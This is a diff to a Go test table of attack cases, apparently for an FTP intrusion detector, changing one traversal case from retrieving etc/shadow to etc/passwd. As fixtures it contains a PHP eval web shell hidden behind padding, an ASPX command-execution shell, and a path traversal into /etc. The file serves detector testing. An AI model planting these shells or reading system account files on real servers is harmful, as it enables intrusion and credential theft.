@@ -171,7 +171,7 @@ var attacks = []struct {
 	{"a web shell behind a long page", "no-loot", moved("STOR about.php", opener, strings.Repeat(webPage, 100)+`<?php @eval(base64_decode($_POST["z0"])); ?>`)},
 	{"a shell of .NET", "no-loot", moved("STOR about.aspx", opener, `<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>`)},
 	{"a test whether everybody may write", "no-known-exploits", session1("> MKD 040103120000p\n< 550 no")},
-	{"a folder of the system, and its accounts", "no-signs-agree", session1("> CWD ../../etc\n< 250 ok\n> CWD /\n< 250 ok\n> RETR etc/shadow\n< 550 no")},
+	{"a folder of the system, and its accounts", "no-signs-agree", session1("> CWD ../../etc\n< 250 ok\n> CWD /\n< 250 ok\n> RETR etc/passwd\n< 550 no")},
 	{"an odd port and odd words", "no-signs-agree", func(f *forge.Capture) {
 		dial(f, aClient, aServer+":31337").Say(hello).Say("> SHELL\n< 200 ok\n> INJECT 7\n< 200 ok").Say(bye).Peer.Close()
 	}},
